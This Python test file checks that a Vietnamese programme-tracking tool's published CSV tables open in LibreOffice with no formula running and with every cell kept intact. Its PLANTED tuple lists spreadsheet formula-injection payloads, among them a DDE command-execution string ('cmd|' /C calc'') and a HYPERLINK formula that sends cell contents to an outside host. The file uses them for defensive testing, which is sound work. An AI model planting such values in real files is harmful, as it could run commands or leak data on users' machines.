"""Published tables as LibreOffice opens them: no formula, and every cell says what the file says."""

import csv
import io
from dataclasses import replace
from datetime import date

import pytest
from tests.factories.demo import thuocdo
from tests.factories.facts import an_observation, some_evidence, some_facts
from tests.factories.office import needs_office, sheets
from tests.factories.publication import publish_plainly

pytestmark = [pytest.mark.slow, pytest.mark.files, needs_office]

PLANTED = (
    "=1+1",
    '=HYPERLINK("https://a.example/?"&A1;"here")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1;1)",
    "'=1+1",
    "=cmd|' /C calc'!A0",
    '",=1+1',
)
"""What somebody writes into a name or a note so that a reader's spreadsheet runs it."""


@pytest.fixture(scope="module")
def published(demo, tmp_path_factory):
    """Return every published CSV by name: of the demo, of a hostile programme, of a data set."""
    home = tmp_path_factory.mktemp("hostile")
    publish_plainly(_hostile_facts(), home / "programme")
    (home / "values.csv").write_text(_hostile_values(), encoding="utf-8")
    given = ("--observations", home / "values.csv", "--out", home / "set", "--illustrative")
    thuocdo("publish", *given, data=home / "none")
    found = {}
    for name, root in (("demo", demo[1]), ("hostile", home / "programme"), ("set", home / "set")):
        found |= {f"{name}/{each.relative_to(root)}": each.read_bytes() for each in root.rglob("*.csv")}
    return found


@pytest.fixture(scope="module")
def opened(published):
    """Open all of them in one LibreOffice, beside a file that it has to run."""
    return sheets({**published, "control": b'a,b\r\n=1+1,"=2+2"\r\n'}, ".csv")


def test_a_formula_would_be_found(opened):
    """LibreOffice runs what an unguarded file holds: so the next test can fail."""
    (sheet,) = opened["control"]
    assert [cell.formula for cell in sheet[1]] == ["of:=1+1", "of:=2+2"]


def test_no_cell_of_a_published_table_is_a_formula(published, opened):
    """Whatever stands in names and notes, no published table makes LibreOffice compute something."""
    assert opened.keys() == {*published, "control"}
    ran = [
        (name, cell)
        for name in published
        for sheet in opened[name]
        for row in sheet
        for cell in row
        if cell.formula
    ]
    assert ran == []
    planted = [cell.value for row in opened["hostile/thu/nhiem-vu.csv"][0] for cell in row]
    assert "'=1+1" in planted


def test_rows_columns_and_words_are_those_of_the_file(published, opened):
    """Every line and cell is there, Vietnamese letters are themselves, numbers and days have their value."""
    wrong = []
    for name, data in published.items():
        lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        (sheet,) = opened[name]
        if len(sheet) != len(lines):
            wrong.append((name, len(sheet), len(lines)))
            continue
        for number, (line, row) in enumerate(zip(lines, sheet, strict=True), 1):
            cells = [*row, *[None] * (len(line) - len(row))]
            wrong += [
                (name, number, text, cell)
                for text, cell in zip(line, cells, strict=True)
                if not _same(text, cell)
            ]
    assert wrong[:9] == [], len(wrong)
    words = [cell.value for row in opened["demo/nq03/chi-tieu.csv"][0] for cell in row]
    assert any("Quy mô kinh tế số" in each for each in words)


def _same(text, cell):
    """Say whether LibreOffice holds what the file says."""
    if cell is None or not cell.kind:
        return text == ""
    if cell.kind == "float":
        return _number(text) == float(cell.value)
    if cell.kind in {"date", "boolean"}:
        return text == cell.value
    return cell.kind == "string" and text.replace("\r\n", "\n").replace("\r", "\n") == cell.value


def _number(text):
    """Return a number as spreadsheets keep it; None where it is none."""
    try:
        return float(text)
    except ValueError:
        return None


def _hostile_facts():
    """Return the small programme with a planted text in every name, title and note, one for each task."""
    facts = some_facts()
    first = facts.programme.tasks[0]
    tasks = tuple(
        replace(
            first,
            code=str(number),
            name_vi=planted,
            name_en=planted,
            deadline=replace(first.deadline, text=planted),
            components=(replace(first.components[0], name_vi=planted, name_en=planted),),
        )
        for number, planted in enumerate(PLANTED, 1)
    )
    evidence = tuple(
        some_evidence(
            id=f"e{task.code}",
            task=task.code,
            **dict.fromkeys(("text", "number", "issuer", "url", "verifier_note"), task.name_vi),
        )
        for task in tasks
    )
    reports = tuple(
        replace(facts.reports[0], id=f"r{task.code}", task=task.code, public_sentence=task.name_vi)
        for task in tasks
    )
    values = tuple(
        an_observation(id=f"o{number}", source=planted, period_end=date(2010 + number, 12, 31))
        for number, planted in enumerate(PLANTED, 1)
    )
    agencies = tuple(
        replace(agency, name_vi=planted, name_en=planted, short_vi=planted, note_vi=planted)
        for agency, planted in zip(facts.register.agencies, PLANTED, strict=False)
    )
    return replace(
        facts,
        programme=replace(facts.programme, tasks=tasks, duties=()),
        register=replace(facts.register, agencies=agencies),
        evidence=evidence,
        reports=reports,
        milestones=(),
        observations=values,
    )


def _hostile_values():
    """Return the file of a data set whose areas and sources are planted."""
    stream = io.StringIO()
    writer = csv.writer(stream)
    writer.writerow(["indicator", "indicator_name", "area", "area_name", "year", "value", "unit", "source"])
    for number, planted in enumerate(PLANTED, 1):
        writer.writerow(["1", "=Chỉ tiêu thử", f"A{number}", planted, "2025", "-1.5", "%", planted])
    return stream.getvalue()
